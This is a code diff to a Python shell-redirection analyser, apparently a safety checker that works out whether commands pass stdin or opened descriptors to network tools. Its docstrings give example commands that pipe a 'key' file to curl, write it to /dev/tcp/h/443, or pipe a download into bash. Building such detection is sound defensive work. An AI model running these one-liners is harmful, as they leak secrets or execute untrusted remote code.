@@ -22,6 +22,11 @@ import posixpath
 import re
 
 STDIN_OPS = ("<", "<>", "<<", "<<<")
+# an explicit `0` on an input operator (the reader never writes one: `0<` is `<`) marks the
+# stdin redirection of a compound the grammar put around a pipeline (`cat x | while ...; done
+# < f`), kept on the pipeline's last command for its effects (a read, a body's substitutions)
+# and never that command's stdin (the compound's is its body's: stages.around)
+COMPOUND_STDIN = "0"
 
 
 def base_op(op: str) -> str:
@@ -42,9 +47,34 @@ def stdin_redirect(redirs: list[tuple[str, str]]) -> tuple[str, str] | None:
     return None
 
 
+def keeps_stdin(redirs: list[tuple[str, str]]) -> bool:
+    """True when a command's stdin ends as a copy of a descriptor not known here (``<&3``
+    after ``3<&0``, inside a compound that redirects its own): it may be what stdin was
+    before any redirection (``cat key | { curl -d @- URL <&3; } 3<&0 < /dev/null`` sends the
+    key); the caller keeps that too (fail closed)."""
+    for op, target in reversed(redirs):
+        if op in STDIN_OPS:
+            return False
+        if op == "<&":
+            return target != "-"
+    return False
+
+
 # a path that names a descriptor (Linux): a redirection to it duplicates that descriptor
 _FD_PATH = re.compile(r"^/(?:dev/fd|proc/[^/]+/fd)/(\d+)$")
 _STD_PATHS = {"/dev/stdin": "0", "/dev/stdout": "1", "/dev/stderr": "2"}
+
+
+def names_stdin(word: str) -> bool:
+    """True for a program argument that is stdin: ``-``, ``/dev/stdin``, ``/dev/fd/0``,
+    ``/proc/self/fd/0`` however spelled (``curl URL | bash /dev/stdin`` runs what arrives)."""
+    if word == "-":
+        return True
+    if not word.startswith("/"):
+        return False
+    path = posixpath.normpath("/" + word.lstrip("/"))
+    m = _FD_PATH.match(path)
+    return _STD_PATHS.get(path) == "0" or (m is not None and m.group(1) == "0")
 
 
 def _as_duplication(op: str, target: str) -> tuple[str, str]:
@@ -81,19 +111,11 @@ def _open(fds: Opened, op: str, target: str) -> None:
             fds["2"] = fds["1"]
 
 
-def openings(redirs: list[tuple[str, str]]) -> Opened:
-    """The descriptors redirections open, in order (a compound's, for its body's commands)."""
-    fds: Opened = {}
-    for op, target in redirs:
-        _open(fds, op, target)
-    return fds
-
-
 def through_opened(words: list[str], redirs: list[tuple[str, str]], opened: Opened,
                    inherited: Opened | None = None) -> tuple[list[tuple[str, str]], Opened]:
     """``redirs`` with each duplication (``>&3``, ``2>&3``, ``<&3``) of a descriptor opened
     before (by a bare ``exec`` earlier, ``opened``; by a compound around the command,
-    ``inherited`` (:func:`openings`): ``{ cat key >&3; } 3<>/dev/tcp/h/443``; or left of it on the same
+    ``inherited``: ``{ cat key >&3; } 3<>/dev/tcp/h/443``; or left of it on the same
     command: ``curl -d @- URL 3< key <&3``) replaced by a redirection to its target when it
     was opened for that direction: ``>&3`` -> ``> T``, ``<&3`` -> ``< T`` (or the
     here-document / here-string fd 3 holds). ``>&-`` closes one; a duplication of one not
